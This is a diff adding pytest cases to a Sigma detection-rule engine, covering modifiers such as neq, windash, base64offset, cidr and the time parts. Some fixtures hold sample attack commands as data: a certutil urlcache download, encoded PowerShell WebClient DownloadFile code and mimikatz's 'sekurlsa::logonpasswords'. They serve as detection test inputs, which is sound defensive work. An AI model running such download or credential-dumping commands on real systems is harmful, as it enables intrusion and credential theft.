@@ -689,3 +689,169 @@ def test_neq_matches_other_values() -> None:
         "network_text": {"EventID": 4624, "LogonType": "3"},
     }
     assert hits(detection, events) == {"interactive"}
+
+
+def test_neq_with_a_list_excludes_every_value() -> None:
+    # pySigma negates the whole or-linked list: NOT (User = a OR User = b), not (User != a) OR (User != b).
+    detection = """
+        selection:
+            User|neq:
+                - 'SYSTEM'
+                - 'LOCAL SERVICE'
+        condition: selection
+    """
+    events = {
+        "other": {"User": "alice"},
+        "first": {"User": "system"},
+        "second": {"User": "LOCAL SERVICE"},
+        # pySigma's SQLite backend: NOT COALESCE(User = ..., 0), so an absent field is "different".
+        "absent": {},
+    }
+    assert hits(detection, events) == {"other", "absent"}
+
+
+@pytest.mark.parametrize("modifiers", ["|fieldref|neq", "|neq|fieldref"])
+def test_neq_with_fieldref(modifiers: str) -> None:
+    detection = f"""
+        selection:
+            TargetUserName{modifiers}: SubjectUserName
+        condition: selection
+    """
+    events = {
+        "different": {"TargetUserName": "bob", "SubjectUserName": "alice"},
+        "same": {"TargetUserName": "bob", "SubjectUserName": "bob"},
+    }
+    assert hits(detection, events) == {"different"}
+
+
+# --- expansions stay or-linked under all ---------------------------------------------------------------
+
+
+def test_windash_with_all_needs_each_value_in_any_dash_form() -> None:
+    # pySigma: each value's expansion is an OR group, the groups are linked by all (SigmaExpansion).
+    detection = """
+        selection:
+            CommandLine|windash|contains|all:
+                - ' -urlcache '
+                - ' -f '
+        condition: selection
+    """
+    events = {
+        "mixed_dashes": {"CommandLine": "certutil.exe /urlcache -f http://x a.exe"},
+        "all_slashes": {"CommandLine": "certutil.exe /urlcache /f http://x a.exe"},
+        "one_missing": {"CommandLine": "certutil.exe /urlcache http://x a.exe"},
+    }
+    assert hits(detection, events) == {"mixed_dashes", "all_slashes"}
+
+
+def test_base64offset_with_all_needs_each_value_at_any_offset() -> None:
+    detection = """
+        selection:
+            CommandLine|base64offset|contains|all:
+                - 'Net.WebClient'
+                - 'DownloadFile'
+        condition: selection
+    """
+    both = b64(b"$c = New-Object Net.WebClient; $c.DownloadFile('http://x', 'a.exe')")
+    one = b64(b"$c = New-Object Net.WebClient; $c.DownloadData('http://x')")
+    events = {"both": {"CommandLine": f"powershell -e {both}"}, "one": {"CommandLine": f"powershell -e {one}"}}
+    assert hits(detection, events) == {"both"}
+
+
+def test_base64offset_of_non_ascii_text_uses_utf8() -> None:
+    detection = """
+        selection:
+            Payload|base64offset|contains: 'пароль'
+        condition: selection
+    """
+    events = {
+        "utf8": {"Payload": b64("мой пароль: 123".encode())},
+        "other": {"Payload": b64("мой логин: 123".encode())},
+    }
+    assert hits(detection, events) == {"utf8"}
+
+
+# --- more value shapes under modifiers -------------------------------------------------------------------
+
+
+def test_re_on_a_numeric_field_uses_its_text() -> None:
+    detection = """
+        selection:
+            EventID|re: '^46[0-9]{2}$'
+        condition: selection
+    """
+    events = {"int": {"EventID": 4688}, "str": {"EventID": "4624"}, "other": {"EventID": 4104}}
+    assert hits(detection, events) == {"int", "str"}
+
+
+def test_cidr_on_a_list_of_addresses() -> None:
+    detection = """
+        selection:
+            ResolvedIps|cidr: '10.0.0.0/8'
+        condition: selection
+    """
+    events = {
+        "one_private": {"ResolvedIps": ["8.8.8.8", "10.0.0.7"]},
+        "all_public": {"ResolvedIps": ["8.8.8.8", "1.1.1.1"]},
+    }
+    assert hits(detection, events) == {"one_private"}
+
+
+def test_fieldref_ignores_case_and_reads_nested_fields() -> None:
+    detection = """
+        selection:
+            TargetUserName|fieldref: user.name
+        condition: selection
+    """
+    events = {
+        "other_case": {"TargetUserName": "Bob", "user": {"name": "bob"}},
+        "different": {"TargetUserName": "Bob", "user": {"name": "alice"}},
+    }
+    assert hits(detection, events) == {"other_case"}
+
+
+def test_cased_with_wildcards() -> None:
+    detection = r"""
+        selection:
+            Image|cased: '*\PsExec6?.exe'
+        condition: selection
+    """
+    events = {
+        "same_case": {"Image": r"C:\Tools\PsExec64.exe"},
+        "lower_case": {"Image": r"C:\Tools\psexec64.exe"},
+    }
+    assert hits(detection, events) == {"same_case"}
+
+
+def test_keyword_with_a_regular_expression() -> None:
+    detection = """
+        keywords:
+            '|re': 'sekurlsa::[a-z]+'
+        condition: keywords
+    """
+    events = {
+        "in_a_field": {"CommandLine": "m.exe sekurlsa::logonpasswords"},
+        "other_case": {"CommandLine": "m.exe SEKURLSA::LOGONPASSWORDS"},
+    }
+    assert hits(detection, events) == {"in_a_field"}
+
+
+# --- time modifiers (specification 2.1, pySigma 1.5.1: minute, hour, day, month, year) --------------
+
+
+@pytest.mark.parametrize(
+    ("modifier", "value"),
+    [("minute", 4), ("hour", 3), ("day", 2), ("month", 1), ("year", 2026)],
+)
+def test_time_modifiers_read_a_part_of_a_timestamp(modifier: str, value: int) -> None:
+    detection = f"""
+        selection:
+            UtcTime|{modifier}: {value}
+        condition: selection
+    """
+    events = {
+        "match": {"UtcTime": "2026-01-02 03:04:05.678"},
+        "other": {"UtcTime": "2027-11-12 13:14:15.678"},
+        "not_a_date": {"UtcTime": "yesterday"},
+    }
+    assert hits(detection, events) == {"match"}
